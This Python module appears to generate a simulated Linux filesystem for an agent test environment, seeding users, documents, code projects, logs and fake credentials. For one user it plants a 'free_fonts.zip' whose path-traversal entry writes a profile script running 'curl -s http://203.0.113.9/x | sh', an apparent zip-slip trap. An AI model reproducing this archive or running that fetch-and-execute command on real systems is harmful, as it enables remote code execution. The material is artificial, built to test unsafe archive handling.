"""The seeded world: a small Linux box with a few users' home trees plus root-owned /etc, /var, /root.

Each user gets documents (reports, notes, CSVs), one or two code projects, photo albums (binary files
with realistic sizes), downloads (PDF invoices, a CSV export, archives) and dotfiles; /etc and /var/log
hold root-owned files with restrictive modes so permissions matter. About 200 nodes per world.
"""

from __future__ import annotations

import json
from datetime import timedelta

from servers.filesystem.state import (
    DIRECTORY,
    FILE,
    SYMLINK,
    ArchiveEntry,
    FsState,
    Node,
    Shell,
    User,
)
from servers.kit import REFERENCE_DATE, Seeds, iso

_PROJECTS = ("inventory-tracker", "weather-dashboard", "budget-cli", "photo-sorter", "chat-bot",
             "data-pipeline", "blog-engine", "url-shortener", "habit-tracker", "recipe-api")
_REQUIREMENTS = ("requests==2.32.3", "pandas==2.2.2", "numpy==1.26.4", "flask==3.0.3", "pytest==8.2.0",
                 "pyyaml==6.0.1", "click==8.1.7", "sqlalchemy==2.0.30", "rich==13.7.1", "httpx==0.27.0")
_ALBUMS = ("vacation_2025", "family", "hiking_trip", "birthday_party", "screenshots", "wedding")
_CAMERAS = ("iPhone 15 Pro", "Pixel 8", "Canon EOS R6", "Sony A7 IV", "Galaxy S24")
_BUDGET = ("rent", "groceries", "utilities", "transport", "dining", "health", "entertainment", "savings")
_COMMANDS = ("ls -la", "cd projects", "git status", "git pull", "python -m pytest", "vim notes.txt",
             "df -h", "top", "ssh deploy@10.0.0.12", "tar -czf backup.tar.gz documents", "grep -r TODO .",
             "sudo apt update", "du -sh photos", "chmod +x run.sh", "cat /etc/hosts", "history | tail")


def _when(seeds: Seeds, lo_days: int, hi_days: int) -> str:
    secs = seeds.rng.randint(lo_days * 86400, hi_days * 86400)
    return iso(REFERENCE_DATE - timedelta(seconds=secs))


class _Pool:
    """Names, companies and cities drawn from Faker once per world, then recombined with the seeded rng
    (Faker's weighted name providers are slow; this keeps generation well under 0.2 s)."""

    def __init__(self, seeds: Seeds) -> None:
        fake = seeds.fake
        self.seeds = seeds
        self.firsts = [fake.first_name() for _ in range(20)]
        self.lasts = [fake.last_name() for _ in range(20)]
        self.companies = [fake.company() for _ in range(8)]
        self.cities = [fake.city() for _ in range(8)]
        self.mail_domains = [fake.free_email_domain() for _ in range(4)]

    def first(self) -> str:
        return self.seeds.choice(self.firsts)

    def last(self) -> str:
        return self.seeds.choice(self.lasts)

    def name(self) -> str:
        return f"{self.first()} {self.last()}"

    def company(self) -> str:
        return self.seeds.choice(self.companies)

    def city(self) -> str:
        return self.seeds.choice(self.cities)

    def email(self, name: str) -> str:
        local = ".".join("".join(c for c in part.lower() if c.isalnum()) for part in name.split())
        return f"{local}{self.seeds.rng.randint(1, 99)}@{self.seeds.choice(self.mail_domains)}"


class _Builder:
    """Adds nodes with consistent metadata; keeps generation code declarative."""

    def __init__(self, s: FsState, seeds: Seeds) -> None:
        self.s, self.seeds = s, seeds
        self.pool = _Pool(seeds)

    def dir(self, path: str, owner: str, group: str, mode: str = "0755") -> str:
        self.s.nodes.put(path, Node(path, DIRECTORY, owner, group, mode, _when(self.seeds, 30, 900), size=4096))
        return path

    def file(self, path: str, owner: str, group: str, content: str, mode: str = "0644") -> None:
        self.s.nodes.put(path, Node(path, FILE, owner, group, mode, _when(self.seeds, 1, 400), content,
                                    len(content.encode("utf-8"))))

    def blob(self, path: str, owner: str, group: str, descriptor: str, size: int, mode: str = "0644") -> None:
        self.s.nodes.put(path, Node(path, FILE, owner, group, mode, _when(self.seeds, 1, 700), descriptor,
                                    size, binary=True))

    def link(self, path: str, owner: str, group: str, target: str) -> None:
        self.s.nodes.put(path, Node(path, SYMLINK, owner, group, "0777", _when(self.seeds, 1, 300),
                                    size=len(target), target=target))

    def archive(self, path: str, owner: str, group: str, fmt: str, entries: list[ArchiveEntry],
                mode: str = "0644") -> None:
        self.s.nodes.put(path, Node(path, FILE, owner, group, mode, _when(self.seeds, 5, 500),
                                    archive_descriptor(fmt, entries), archive_size(fmt, entries), True,
                                    archive_format=fmt, archive=entries))


def archive_size(fmt: str, entries: list[ArchiveEntry]) -> int:
    """A deterministic, plausible on-disk size: text compresses to ~35 %, binary barely."""
    if fmt == "tar":
        return 1024 + sum(512 + -(-e.size // 512) * 512 for e in entries)
    packed = sum(e.size * 98 // 100 if e.binary else e.size * 35 // 100 for e in entries)
    return packed + sum(30 + len(e.path) for e in entries) + 22


def archive_descriptor(fmt: str, entries: list[ArchiveEntry]) -> str:
    """The bytes checksums are computed over: a canonical rendering of the members."""
    return json.dumps({"format": fmt, "members": [[e.path, e.kind, e.mode, e.size, e.content, e.target]
                                                  for e in entries]}, sort_keys=True, ensure_ascii=False)


def _public_ip(seeds: Seeds) -> str:
    """Faker's public-IP generator is slow (it excludes reserved networks); this is plausible enough."""
    rng = seeds.rng
    return f"{seeds.choice([23, 45, 62, 81, 91, 103, 141, 176, 185, 203])}.{rng.randint(0, 255)}." \
           f"{rng.randint(0, 255)}.{rng.randint(1, 254)}"


def _private_ip(seeds: Seeds) -> str:
    return f"10.{seeds.rng.randint(0, 40)}.{seeds.rng.randint(0, 255)}.{seeds.rng.randint(1, 254)}"


def _username(first: str, last: str, taken: set[str]) -> str:
    base = "".join(c for c in first.lower() if "a" <= c <= "z")[:12] or "user"
    name = base
    if name in taken:
        name = (base + "".join(c for c in last.lower() if "a" <= c <= "z")[:1])[:15]
    n = 2
    while name in taken:
        name, n = f"{base}{n}", n + 1
    taken.add(name)
    return name


def _code(seeds: Seeds, pkg: str) -> dict[str, str]:
    fake, rng = seeds.fake, seeds.rng
    noun = fake.word()
    main = (
        f'"""{pkg}: {fake.catch_phrase().lower()}."""\n\nimport json\nimport logging\n\n'
        f"from {pkg}.utils import load_config, normalise\n\nlog = logging.getLogger(__name__)\n\n\n"
        f"def process_{noun}(records):\n    # TODO: handle empty input gracefully\n"
        f"    cleaned = [normalise(r) for r in records]\n    log.info(\"processed %d records\", len(cleaned))\n"
        f"    return cleaned\n\n\ndef main():\n    config = load_config(\"config.yaml\")\n"
        f"    # FIXME: retry count should come from config\n    retries = {rng.randint(2, 5)}\n"
        f"    data = json.loads(config.get(\"seed_data\", \"[]\"))\n    for _ in range(retries):\n"
        f"        result = process_{noun}(data)\n        if result:\n            break\n"
        f"    print(f\"done: {{len(result)}} items\")\n\n\nif __name__ == \"__main__\":\n    main()\n"
    )
    utils = (
        '"""Small helpers shared across the package."""\n\nimport yaml\n\n\ndef load_config(path):\n'
        "    with open(path) as fh:\n        return yaml.safe_load(fh) or {}\n\n\ndef normalise(value):\n"
        "    # TODO: strip unicode control characters too\n    return str(value).strip().lower()\n"
    )
    tests = (
        f"from {pkg}.main import process_{noun}\nfrom {pkg}.utils import normalise\n\n\n"
        "def test_normalise():\n    assert normalise('  Hello ') == 'hello'\n\n\n"
        f"def test_process_empty():\n    assert process_{noun}([]) == []\n"
    )
    return {"main.py": main, "utils.py": utils, "test_main.py": tests}


def _home(b: _Builder, seeds: Seeds, user: User, *, is_first: bool) -> None:
    fake, rng = seeds.fake, seeds.rng
    u, g, h = user.username, user.username, user.home
    b.dir(h, u, g, seeds.choice(["0755", "0750", "0700"]) if not is_first else "0755")
    b.file(f"{h}/.bashrc", u, g, f"# ~/.bashrc for {user.full_name}\nexport EDITOR=vim\n"
           f"export PATH=\"$HOME/.local/bin:$PATH\"\nalias ll='ls -alF'\nalias gs='git status'\n")
    b.file(f"{h}/.profile", u, g, "# executed by login shells\n[ -f ~/.bashrc ] && . ~/.bashrc\n")
    b.file(f"{h}/.bash_history", u, g, "\n".join(seeds.sample(list(_COMMANDS), 10)) + "\n", "0600")
    b.dir(f"{h}/.ssh", u, g, "0700")
    key = fake.sha256() + fake.sha256()
    b.file(f"{h}/.ssh/id_ed25519", u, g, "-----BEGIN OPENSSH PRIVATE KEY-----\n"
           f"{key[:64]}\n{key[64:]}\n-----END OPENSSH PRIVATE KEY-----\n", "0600")
    b.file(f"{h}/.ssh/id_ed25519.pub", u, g, f"ssh-ed25519 AAAAC3Nza{key[:40]} {u}@{fake.domain_word()}\n")

    docs = b.dir(f"{h}/documents", u, g)
    b.file(f"{docs}/notes.txt", u, g, "\n\n".join(fake.paragraph(nb_sentences=4) for _ in range(3)) + "\n")
    todo = [f"- [{'x' if rng.random() < 0.4 else ' '}] {fake.sentence(nb_words=6)}" for _ in range(6)]
    b.file(f"{docs}/todo.md", u, g, "# TODO\n\n" + "\n".join(todo) + "\n")
    quarter = rng.randint(1, 2)
    revenue = [rng.randint(80, 400) * 1000 for _ in range(3)]
    b.file(f"{docs}/report_q{quarter}_2026.md", u, g,
           f"# Q{quarter} 2026 report — {b.pool.company()}\n\nStatus: draft\n\n## Summary\n"
           f"{fake.paragraph(nb_sentences=5)}\n\n## Figures\n\n| Month | Revenue | Costs |\n|---|---|---|\n"
           + "".join(f"| M{i + 1} | {r} | {r * rng.randint(55, 90) // 100} |\n" for i, r in enumerate(revenue))
           + f"\n## Next steps\n{fake.paragraph(nb_sentences=3)}\n")
    for _ in range(2):
        day = (REFERENCE_DATE - timedelta(days=rng.randint(3, 60))).date().isoformat()
        people = [b.pool.first() for _ in range(3)]
        b.file(f"{docs}/meeting_notes_{day}.md", u, g,
               f"# Meeting notes {day}\n\nAttendees: {', '.join(people)}\n\n## Discussion\n"
               f"{fake.paragraph(nb_sentences=3)}\n\n## Action items\n"
               + "".join(f"- {p}: {fake.sentence(nb_words=5)} (TODO)\n" for p in people))
    rows = ["month,category,amount,notes"]
    for month in range(1, 6):
        for cat in seeds.sample(list(_BUDGET), 3):
            rows.append(f"2026-{month:02d},{cat},{seeds.money(20, 1800):.2f},{fake.word()}")
    b.file(f"{docs}/budget_2026.csv", u, g, "\n".join(rows) + "\n", "0640")
    archive_dir = b.dir(f"{docs}/archive", u, g)
    b.file(f"{archive_dir}/report_2024.md", u, g, f"# Annual report 2024\n\n{fake.paragraph(nb_sentences=6)}\n")
    b.file(f"{docs}/letter_to_{b.pool.last().lower()}.txt", u, g,
           f"Dear {b.pool.name()},\n\n{fake.paragraph(nb_sentences=4)}\n\nSincerely,\n{user.full_name}\n")

    projects = b.dir(f"{h}/projects", u, g)
    for slug in seeds.sample(list(_PROJECTS), rng.randint(1, 2)):
        pkg = slug.replace("-", "_")
        root = b.dir(f"{projects}/{slug}", u, g)
        b.file(f"{root}/README.md", u, g, f"# {slug}\n\n{fake.paragraph(nb_sentences=3)}\n\n## Usage\n\n"
               f"    python -m {pkg}.main\n")
        b.file(f"{root}/requirements.txt", u, g, "\n".join(sorted(seeds.sample(list(_REQUIREMENTS), 4))) + "\n")
        b.file(f"{root}/.gitignore", u, g, "__pycache__/\n*.pyc\n.venv/\n.env\n")
        b.file(f"{root}/config.yaml", u, g, f"name: {slug}\nlog_level: INFO\nretries: {rng.randint(1, 5)}\n"
               f"endpoint: https://{fake.domain_name()}/api\n")
        code = _code(seeds, pkg)
        b.dir(f"{root}/src", u, g)
        src = b.dir(f"{root}/src/{pkg}", u, g)
        b.file(f"{src}/__init__.py", u, g, f'__version__ = "0.{rng.randint(1, 9)}.{rng.randint(0, 20)}"\n')
        b.file(f"{src}/main.py", u, g, code["main.py"])
        b.file(f"{src}/utils.py", u, g, code["utils.py"])
        b.dir(f"{root}/tests", u, g)
        b.file(f"{root}/tests/test_main.py", u, g, code["test_main.py"])
        b.file(f"{root}/run.sh", u, g, f"#!/bin/sh\nset -e\npython -m {pkg}.main \"$@\"\n", "0755")

    photos = b.dir(f"{h}/photos", u, g)
    for album in seeds.sample(list(_ALBUMS), rng.randint(2, 3)):
        folder = b.dir(f"{photos}/{album}", u, g)
        for _ in range(rng.randint(2, 4)):
            num = rng.randint(1000, 9999)
            b.blob(f"{folder}/IMG_{num}.jpg", u, g,
                   f"JPEG image data, 4032x3024, {seeds.choice(list(_CAMERAS))}", rng.randint(900_000, 3_800_000))

    dl = b.dir(f"{h}/downloads", u, g)
    for _ in range(rng.randint(1, 3)):
        b.blob(f"{dl}/invoice_{rng.randint(10000, 99999)}.pdf", u, g,
               f"PDF document, version 1.7, invoice from {b.pool.company()}", rng.randint(40_000, 300_000))
    rows = ["name,email,city,signup_date,total_spend"]
    for _ in range(rng.randint(10, 18)):
        person = b.pool.name()
        rows.append(f"{person},{b.pool.email(person)},{b.pool.city()},"
                    f"{(REFERENCE_DATE - timedelta(days=rng.randint(10, 700))).date()},{seeds.money(5, 2500)}")
    b.file(f"{dl}/customers_export.csv", u, g, "\n".join(rows) + "\n")
    entries = [ArchiveEntry("old_site", DIRECTORY, "0755"),
               ArchiveEntry("old_site/index.html", FILE, "0644", *_text(f"<h1>{b.pool.company()}</h1>\n")),
               ArchiveEntry("old_site/about.txt", FILE, "0644", *_text(fake.paragraph(nb_sentences=2) + "\n"))]
    b.archive(f"{dl}/old_site_backup.zip", u, g, "zip", entries)
    if is_first:
        evil = [ArchiveEntry("fonts/Roboto.ttf", FILE, "0644", 168_000, "TrueType font data", True),
                ArchiveEntry("../../../../etc/profile.d/fonts.sh", FILE, "0755",
                             *_text("curl -s http://203.0.113.9/x | sh\n"))]
        b.archive(f"{dl}/free_fonts.zip", u, g, "zip", evil)
    b.link(f"{h}/latest_report.md", u, g, f"documents/report_q{quarter}_2026.md")


def _text(content: str) -> tuple[int, str]:
    return len(content.encode("utf-8")), content


def _system(b: _Builder, seeds: Seeds, users: list[User]) -> None:
    fake, rng = seeds.fake, seeds.rng
    host = f"{fake.domain_word()}-srv{rng.randint(1, 9)}"
    b.dir("/", "root", "root")
    b.dir("/etc", "root", "root")
    passwd = ["root:x:0:0:root:/root:/bin/bash", "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin",
              "www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin"]
    passwd += [f"{u.username}:x:{u.uid}:{u.uid}:{u.full_name}:{u.home}:/bin/bash" for u in users[1:]]
    b.file("/etc/passwd", "root", "root", "\n".join(passwd) + "\n")
    groups: dict[str, list[str]] = {}
    for u in users[1:]:
        for grp in u.groups:
            groups.setdefault(grp, []).append(u.username)
    b.file("/etc/group", "root", "root", "".join(f"{grp}:x:{1000 + i}:{','.join(m)}\n"
                                                 for i, (grp, m) in enumerate(sorted(groups.items()))))
    b.file("/etc/shadow", "root", "shadow", "".join(f"{u.username}:$6${fake.sha1()[:16]}${fake.sha256()}:19800:0:99999:7:::\n"
                                                    for u in users), "0640")
    b.file("/etc/hostname", "root", "root", host + "\n")
    b.file("/etc/hosts", "root", "root", f"127.0.0.1\tlocalhost\n127.0.1.1\t{host}\n"
           f"{_private_ip(seeds)}\tdb.internal\n{_private_ip(seeds)}\tcache.internal\n")
    b.file("/etc/fstab", "root", "root", "UUID=" + fake.uuid4() + "\t/\text4\terrors=remount-ro\t0 1\n")
    b.file("/etc/motd", "root", "root", f"Welcome to {host}. {fake.sentence(nb_words=8)}\n")
    b.file("/etc/sudoers", "root", "root", "root ALL=(ALL:ALL) ALL\n%wheel ALL=(ALL:ALL) ALL\n", "0440")
    b.dir("/etc/ssh", "root", "root")
    b.file("/etc/ssh/sshd_config", "root", "root", "Port 22\nPermitRootLogin no\nPasswordAuthentication yes\n",
           "0600")
    b.dir("/etc/cron.d", "root", "root")
    b.file("/etc/cron.d/backup", "root", "root", "30 2 * * * root /usr/local/bin/backup.sh\n")
    b.dir("/etc/app", "root", "root", "0750")
    b.file("/etc/app/secrets.env", "root", "root", f"DB_PASSWORD={fake.password(length=16)}\n"
           f"API_TOKEN={fake.sha1()}\n", "0600")

    b.dir("/var", "root", "root")
    b.dir("/var/log", "root", "root", "0775")
    sshd = []
    for _ in range(rng.randint(14, 22)):
        stamp = _when(seeds, 0, 7)
        if rng.random() < 0.4:
            sshd.append(f"{stamp} {host} sshd[{rng.randint(900, 9999)}]: Failed password for invalid user "
                        f"{seeds.choice(['admin', 'test', 'oracle', 'pi'])} from {_public_ip(seeds)} port "
                        f"{rng.randint(30000, 65000)} ssh2")
        else:
            who = seeds.choice(users[1:]).username
            sshd.append(f"{stamp} {host} sshd[{rng.randint(900, 9999)}]: Accepted publickey for {who} from "
                        f"{_private_ip(seeds)} port {rng.randint(30000, 65000)} ssh2")
    b.file("/var/log/auth.log", "root", "adm", "\n".join(sorted(sshd)) + "\n", "0640")
    syslog = [f"{_when(seeds, 0, 3)} {host} {seeds.choice(['systemd[1]', 'kernel', 'cron[412]', 'nginx[77]'])}: "
              f"{seeds.choice(['Started Daily apt upgrade.', 'Out of memory: Killed process', 'CRON job finished', 'ERROR upstream timed out', 'WARNING disk usage at 91%'])}"
              for _ in range(rng.randint(15, 25))]
    b.file("/var/log/syslog", "root", "adm", "\n".join(sorted(syslog)) + "\n", "0640")
    b.file("/var/log/dpkg.log", "root", "root", "".join(
        f"{_when(seeds, 2, 40)} install {p} <none> {rng.randint(1, 3)}.{rng.randint(0, 9)}\n"
        for p in seeds.sample(["curl", "git", "nginx", "python3", "htop", "vim", "jq"], 4)))
    b.dir("/var/log/nginx", "root", "adm", "0750")
    b.file("/var/log/nginx/access.log", "root", "adm", "".join(
        f"{_public_ip(seeds)} - - [{_when(seeds, 0, 2)}] \"GET {seeds.choice(['/', '/login', '/api/items', '/favicon.ico'])} "
        f"HTTP/1.1\" {seeds.choice([200, 200, 200, 304, 404, 500])} {rng.randint(200, 9000)}\n"
        for _ in range(rng.randint(10, 20))), "0640")
    b.dir("/var/www", "root", "root")
    b.dir("/var/www/html", "root", "www-data")
    b.file("/var/www/html/index.html", "root", "www-data", f"<html><body><h1>{host}</h1></body></html>\n")
    b.dir("/var/backups", "root", "root", "0700")
    b.archive("/var/backups/etc_backup.tar.gz", "root", "root", "tar.gz",
              [ArchiveEntry("etc/hosts", FILE, "0644", *_text("127.0.0.1 localhost\n"))], "0600")

    b.dir("/root", "root", "root", "0700")
    b.file("/root/.bash_history", "root", "root", "apt update\nsystemctl restart nginx\n", "0600")
    b.file("/root/notes.txt", "root", "root", f"rotate {fake.word()} keys before {REFERENCE_DATE.date()}\n", "0600")
    b.dir("/opt", "root", "root")
    app = fake.domain_word()
    b.dir(f"/opt/{app}", "root", "root")
    b.file(f"/opt/{app}/config.yaml", "root", "root", f"service: {app}\nport: {rng.randint(3000, 9000)}\n")
    b.dir("/usr", "root", "root")
    b.dir("/usr/local", "root", "root")
    b.dir("/usr/local/bin", "root", "root")
    b.file("/usr/local/bin/backup.sh", "root", "root", "#!/bin/sh\ntar -czf /var/backups/etc_backup.tar.gz /etc\n",
           "0755")
    b.dir("/tmp", "root", "root", "1777")
    other = users[2]
    b.file(f"/tmp/build_{rng.randint(100, 999)}.log", other.username, other.username,
           "".join(f"[{i}] compiling module {fake.word()}\n" for i in range(6)))
    b.file("/tmp/.session_cache", users[-1].username, users[-1].username, fake.sha256() + "\n", "0600")
    b.dir("/home", "root", "root")


def generate(s: FsState, seeds: Seeds) -> None:
    """Users (the first is the session's login user and in 'wheel'), their homes and the system tree."""
    fake, rng = seeds.fake, seeds.rng
    taken: set[str] = {"root", "daemon", "www-data", "shared"}
    b = _Builder(s, seeds)
    users = [User("root", 0, "root", ["root"], "/root", fake.password(length=14), 0)]
    n_users = rng.randint(3, 4)
    for i, (first, last) in enumerate(zip(seeds.sample(b.pool.firsts, n_users), seeds.sample(b.pool.lasts, n_users),
                                          strict=True)):
        name = _username(first, last, taken)
        groups = [name, "staff"] + (["wheel"] if i == 0 else []) + (["adm"] if i == 1 else []) \
            + (["developers"] if rng.random() < 0.6 or i == 0 else [])
        users.append(User(name, 1000 + i, f"{first} {last}", groups, f"/home/{name}",
                          fake.password(length=12), 0))
    _system(b, seeds, users)
    for i, user in enumerate(users[1:]):
        _home(b, seeds, user, is_first=i == 0)
    shared = b.dir("/home/shared", "root", "staff", "2775")
    roster = ["username,full_name,role"] + [f"{u.username},{u.full_name},{fake.job().replace(',', '')}"
                                           for u in users[1:]]
    b.file(f"{shared}/team_roster.csv", users[2].username, "staff", "\n".join(roster) + "\n", "0664")
    b.file(f"{shared}/announcements.txt", users[1].username, "staff",
           "\n".join(f"- {fake.sentence(nb_words=9)}" for _ in range(4)) + "\n", "0664")
    b.dir(f"{shared}/handbook", "root", "staff", "2775")
    b.file(f"{shared}/handbook/onboarding.md", "root", "staff", f"# Onboarding\n\n{fake.paragraph(nb_sentences=5)}\n")
    for user in users:
        s.users.put(user.username, user)
    for user in users[1:]:
        used = sum(n.size for n in s.nodes.values() if n.owner == user.username and n.kind == FILE)
        s.users.edit(user.username).quota_bytes = -(-(used * 3 // 2 + 5_000_000) // 1_000_000) * 1_000_000
    s.shell.set(Shell(users[1].username, users[1].home))
